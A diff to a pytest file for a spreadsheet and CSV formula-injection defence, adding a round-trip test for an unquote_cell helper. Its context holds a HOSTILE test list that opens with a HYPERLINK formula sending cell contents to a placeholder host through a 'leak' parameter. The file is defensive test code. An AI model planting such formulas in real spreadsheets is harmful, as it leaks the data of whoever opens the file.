@@ -12,7 +12,7 @@ import pytest
 from openpyxl import Workbook, load_workbook
 
 import core.cells
-from core.cells import append_safe_row, safe_cell, safe_row, set_text_cell
+from core.cells import append_safe_row, safe_cell, safe_row, set_text_cell, unquote_cell
 
 HOSTILE = [
     '=HYPERLINK("http://example.invalid/?leak="&A3,"詳細")',
@@ -95,3 +95,13 @@ def test_csv_cells_start_with_a_quote() -> None:
     writer.writerow(safe_row(["=1+1", "@SUM(A1)", -2, "ok"]))
     cells = next(csv.reader(io.StringIO(buffer.getvalue())))
     assert cells == ["'=1+1", "'@SUM(A1)", "-2", "ok"]
+
+
+@pytest.mark.parametrize(
+    ("written", "meant"),
+    [("'=1+1", "=1+1"), ("'-3", "-3"), ("'＋81", "＋81"), ("'quoted'", "'quoted'"), ("'", "'"),
+     ("plain", "plain")],
+)
+def test_a_neutralised_cell_reads_back_as_what_was_meant(written: str, meant: str) -> None:
+    assert unquote_cell(written) == meant
+    assert unquote_cell(str(safe_cell(meant))) == meant
